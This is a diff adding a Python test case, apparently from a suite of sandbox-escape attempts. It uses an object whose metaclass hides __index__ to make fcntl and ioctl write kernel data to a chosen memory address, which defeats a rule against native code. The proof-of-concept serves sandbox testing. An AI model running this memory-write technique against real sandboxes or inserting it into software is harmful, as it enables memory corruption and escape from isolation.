@@ -1,0 +1,55 @@
+# class: machine_code
+# rule: native_code
+# needs: x86_64
+# success: the kernel writes to an address that fcntl.fcntl or fcntl.ioctl takes from an object,
+#   whose class says that it has no __index__
+# proof: word
+import fcntl
+import mmap
+import os
+
+from attack import attempt
+
+MAP_32BIT, F_GETOWN_EX, FIONREAD = 0x40, 16, 0x541B
+
+
+class Silent(type):
+    def __getattribute__(cls, name):
+        if name == "__index__":
+            raise AttributeError(name)
+        return super().__getattribute__(name)
+
+
+class Number(metaclass=Silent):
+    def __init__(self, value):
+        self.value = value
+
+    def __index__(self):
+        return self.value
+
+
+def low_page():
+    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
+    before = set(open("/proc/self/maps"))
+    page = mmap.mmap(-1, 1 << 20, flags=flags)
+    for line in set(open("/proc/self/maps")) - before:
+        low, high = (int(part, 16) for part in line.split()[0].split("-"))
+        if low < 1 << 31 and high - low >= 1 << 20:
+            return page, high - (1 << 20)
+    raise LookupError("no page below 2 GB")
+
+
+@attempt
+def write():
+    page, where = low_page()
+    come, go = os.pipe()
+    os.write(go, b"12345")
+    tried = []
+    for call, request, at in ((fcntl.fcntl, F_GETOWN_EX, 0), (fcntl.ioctl, FIONREAD, 64)):
+        page[:128] = b"\xff" * 128
+        try:
+            call(come, request, Number(where + at))
+        except OSError:
+            continue
+        tried.append(page[at : at + 4] != b"\xff" * 4)
+    return any(tried)
